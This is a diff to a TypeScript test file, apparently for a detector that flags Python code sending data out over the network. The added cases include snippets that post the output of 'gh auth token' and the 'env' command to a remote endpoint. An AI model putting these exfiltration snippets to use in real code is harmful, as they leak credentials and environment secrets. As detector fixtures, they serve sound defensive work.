@@ -105,6 +105,22 @@ const CASES: readonly (readonly [name: string, code: string, wanted: readonly st
     'import subprocess, telebot\nbot = telebot.TeleBot("t")\nbot.reply_to(None, subprocess.check_output("whoami", shell=True))',
     ['http-send carries:output to:webhook'],
   ],
+  // Output
+  [
+    'the output of a program that tells a token',
+    `import subprocess\n${POST('subprocess.check_output(["gh", "auth", "token"])')}`,
+    ['http-send carries:credentials carries:output'],
+  ],
+  [
+    'the environment printed by a child',
+    `import subprocess\np = subprocess.Popen("env", shell=True, stdout=subprocess.PIPE)\n${POST('p.communicate()[0]')}`,
+    ['http-send carries:env carries:output'],
+  ],
+  [
+    'the output of another program',
+    `import subprocess\n${POST('subprocess.check_output(["git", "rev-parse", "HEAD"])')}`,
+    ['http-send carries:output', '!http-send carries:credentials', '!http-send carries:env'],
+  ],
   // Pictures and keys
   [
     'code in a picture that was fetched',
